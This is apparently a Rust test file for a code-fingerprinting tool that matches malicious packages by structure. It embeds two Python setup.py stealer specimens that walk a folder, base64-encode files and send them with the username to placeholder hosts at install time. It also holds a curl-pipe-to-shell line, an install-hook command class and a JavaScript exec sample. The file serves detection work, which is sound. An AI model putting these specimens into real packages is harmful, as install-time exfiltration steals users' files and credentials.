use super::*;

const RUNNING: Extent = Extent::Running { program: true };

/// An inert specimen with the shape of a stealer: it names a host that nobody has, and its code is never run.
const STEALER: &str = r#"
import os, json, base64
import urllib.request as request
from setuptools import setup

HOOK = "http://198.51.100.7/collect"
KEY = 41

def gather(root):
    found = {}
    for folder, _, names in os.walk(root):
        for name in names:
            if name.endswith(".ldb"):
                with open(os.path.join(folder, name), "rb") as file:
                    found[name] = base64.b64encode(file.read()).decode()
    return found

def post(data):
    body = json.dumps({"user": os.getlogin(), "data": data}).encode()
    return request.urlopen(request.Request(HOOK, data=body, headers={"X-Key": str(KEY)}))

try:
    post(gather(os.path.expanduser("~/.config/example")))
except Exception:
    pass

setup(name="left", version="1.0", author="one", description="some text", packages=["left"])
"#;

/// The same under other names, hosts and keys, with its functions in another order and its modules under other aliases.
const RENAMED: &str = r#"
from setuptools import setup
import base64 as b, json as j
import os as system
from urllib import request as net

def transmit(stolen):
    blob = j.dumps({"u": system.getlogin(), "d": stolen}).encode()
    return net.urlopen(net.Request(TARGET, data=blob, headers={"Y": str(N)}))

TARGET = "http://203.0.113." + "9/other"
N = 77

def walk(start):
    result = {}
    for d, _, files in system.walk(start):
        for f in files:
            if f.endswith(".log"):
                with open(system.path.join(d, f), "rb") as handle:
                    result[f] = b.b64encode(handle.read()).decode()
    return result

try:
    transmit(walk(system.path.expanduser("~/.cache/elsewhere")))
except Exception:
    pass

setup(name="right", version="2.0", license="none", classifiers=["a", "b"])
"#;

fn shape(text: &str) -> Vec<u64> {
    shingles(Language::Python, text, RUNNING, false, &|_| false)
}

/// The share of the first in the second.
fn share(first: &[u64], second: &[u64]) -> f64 {
    let shared = first.iter().filter(|shingle| second.binary_search(shingle).is_ok()).count();
    shared as f64 / first.len() as f64
}

#[test]
fn new_names_hosts_keys_and_another_order_change_little() {
    let (one, other) = (shape(STEALER), shape(RENAMED));
    assert!(one.len() > 60, "{}", one.len());
    assert!(share(&one, &other) > 0.9, "{}", share(&one, &other));
    assert!(share(&other, &one) > 0.9, "{}", share(&other, &one));
}

#[test]
fn other_calls_are_another_shape() {
    let other =
        STEALER.replace("os.walk", "os.listdir").replace("b64encode", "a85encode").replace("getlogin", "getpid");
    let share = share(&shape(STEALER), &shape(&other));
    assert!(share < 0.9, "{share}");
}

#[test]
fn what_a_setup_says_of_its_package_has_no_shape() {
    let setup = "from setuptools import setup, find_packages\nsetup(name='a', version='1', packages=find_packages(),\n    \
                 classifiers=['x', 'y'], install_requires=['z>=1'], entry_points={'console_scripts': ['a=a:main']})\n";
    assert_eq!(shape(setup), []);
}

#[test]
fn a_command_class_of_a_setup_counts() {
    let hook = "from setuptools import setup\nfrom setuptools.command.install import install\nimport os\n\
                class Hook(install):\n    def run(self):\n        install.run(self)\n        os.system('tool ' + os.getcwd())\n";
    assert_eq!(shape(&format!("{hook}setup(name='a')\n")), []);
    assert!(!shape(&format!("{hook}setup(name='a', cmdclass={{'install': Hook}})\n")).is_empty());
}

#[test]
fn a_function_that_nothing_names_has_no_shape_until_all_code_counts() {
    let text =
        "import os\ndef idle(a):\n    os.system('one')\n    os.system('two ' + str(a))\n    return os.getpid()\n";
    assert_eq!(shape(text), []);
    let whole = shingles(Language::Python, text, Extent::Whole, false, &|_| false);
    assert!(!whole.is_empty());
    assert_eq!(shape(&format!("{text}idle(1)\n")).len(), whole.len());
}

#[test]
fn a_main_block_runs_in_a_program_only() {
    let text =
        "import os\nif __name__ == '__main__':\n    os.system('a'); os.remove('b'); os.getpid(); os.listdir('c')\n";
    let module = Extent::Running { program: false };
    assert_eq!(shingles(Language::Python, text, module, false, &|_| false), []);
    assert!(!shape(text).is_empty());
}

#[test]
fn modules_of_the_package_itself_are_masked() {
    let text = |name: &str| {
        format!(
            "from {name}.parts import send\nimport os\nsend(os.getcwd())\nsend(os.listdir('a'))\nsend(os.getpid())\n"
        )
    };
    let shape = |name: &str| shingles(Language::Python, &text(name), RUNNING, false, &|root| root == name);
    assert_eq!(shape("first"), shape("second"));
}

#[test]
fn aliases_of_node_modules_are_undone() {
    let shape = |text: &str| shingles(Language::JavaScript, text, RUNNING, false, &|_| false);
    let one = shape(
        "const cp = require('child_process'); const os = require('os');\ncp.exec('a ' + os.hostname(), (e) => { console.log(e) });",
    );
    let other = shape(
        "import { hostname as h } from 'node:os';\nconst { exec } = require('node:child_process');\nexec('b ' + h(), (error) => { console.log(error) });",
    );
    assert_eq!(one, other);
    assert!(!one.is_empty());
}

/// Indexes are kept for long. Whoever changes what these numbers are must count [`VERSION`] up.
#[test]
fn shingles_are_what_they_were() {
    let texts = [
        (Language::Python, "import os\nos.system('a')\nos.remove('b')\nprint([1, 2], {'a': None})\n"),
        (
            Language::JavaScript,
            "const fs = require('fs'); fs.rmSync('a'); fetch(`x${1}`).then((r) => eval(r)); new Map();",
        ),
        (Language::Shell, "curl -s http://198.51.100.7/a | sh; rm -f b c d; echo done\n"),
        (Language::Ruby, "require 'net/http'\nputs Net::HTTP.get(URI('http://198.51.100.7/'))\nsystem('a', 'b')\n"),
    ];
    let numbers = texts.map(|(language, text)| {
        let shingles = shingles(language, text, RUNNING, false, &|_| false);
        (shingles.len(), format!("{:016x}", shingles.iter().fold(0, |all, one| all ^ one)))
    });
    let expected =
        [(9, "b33458aa783d1227"), (8, "3b8bb01e76d23238"), (32, "e046e0a34db51c17"), (9, "a32318a505b96c08")];
    assert_eq!((VERSION, numbers), (1, expected.map(|(count, all)| (count, all.to_owned()))));
}
